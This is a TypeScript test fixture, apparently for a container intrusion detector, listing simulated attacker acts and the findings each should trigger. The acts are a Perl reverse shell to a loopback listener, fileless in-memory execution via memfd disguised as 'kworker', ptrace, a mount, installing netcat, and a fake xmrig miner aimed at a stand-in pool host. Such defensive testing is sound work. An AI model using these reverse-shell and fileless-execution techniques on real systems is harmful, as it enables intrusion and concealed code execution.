/**
 * What an intruder does in the web container, each act as harmless as its kind allows.
 *
 * in     an engine and the container's name
 * out    the moment of the act, and what its finding must say
 * holds  every program used is in the image; nothing leaves loopback; what spins stops by itself
 */
import { createServer } from 'node:net';
import { execIn, type TestEngine } from '@plimsoll/testkit';

export interface Act {
  readonly name: string;
  /** What the finding's process may be called. */
  readonly process: RegExp;
  /** What its sentence must say. */
  readonly reason: RegExp;
  run(engine: TestEngine, container: string): Promise<void>;
}

/** The act may well fail inside the container (mount, ptrace): the attempt is what counts, so exit codes are not looked at. */
const command =
  (...args: readonly string[]): Act['run'] =>
  async (engine, container) => {
    await execIn(engine, container, args);
  };
const perl = (script: string): Act['run'] => command('perl', '-e', script);
const shell = (script: string): Act['run'] => command('sh', '-c', script);

export const acts: readonly Act[] = [
  {
    name: 'a shell with a socket as its input',
    process: /^sh$/,
    reason: /socket/,
    run: async (engine, container) => {
      const listener = createServer((peer) =>
        peer
          .on('error', () => {})
          .end('id\nexit\n')
          .resume(),
      );
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
      const address = listener.address();
      const port = typeof address === 'object' ? address?.port : undefined;
      const dial = `socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${port},inet_aton("127.0.0.1"))) or die;`;
      const hand = 'open(STDIN,"<&",S);open(STDOUT,">&",S);open(STDERR,">&",S);exec("/bin/sh","-i");';
      await perl(`use Socket;${dial}${hand}`)(engine, container);
      await new Promise((resolve) => listener.close(resolve));
    },
  },
  {
    name: 'a package manager',
    process: /^(apt-get|apt)$/,
    reason: /package manager|apt-get/,
    run: command('apt-get', '--no-download', 'install', 'netcat'),
  },
  {
    name: 'a program that exists in memory only',
    process: /^(kworker|\d+|memfd:.*|exe|job|perl)$/,
    reason: /memory/,
    run: perl(
      'my $name="job";my $fd=syscall(319,$name,0);open(my $out,">&=",$fd) or die;open(my $in,"<","/bin/echo") or die;' +
        'local $/;my $data=<$in>;print {$out} $data;$out->flush;exec {"/proc/self/fd/$fd"} "kworker","fileless";die;',
    ),
  },
  { name: 'ptrace', process: /^perl$/, reason: /ptrace/, run: perl('syscall(101,16,1,0,0)') },
  { name: 'a mount', process: /^mount$/, reason: /mount/, run: shell('mount -t tmpfs none /mnt') },
  {
    name: 'a miner',
    process: /^xmrig$/,
    reason: /xmrig|min(er|ing)/,
    run: shell(
      'cp /usr/bin/perl /tmp/xmrig; timeout 1 /tmp/xmrig -e "1 while 1" -- -o stratum+tcp://pool.example.net:3333 -u wallet',
    ),
  },
];
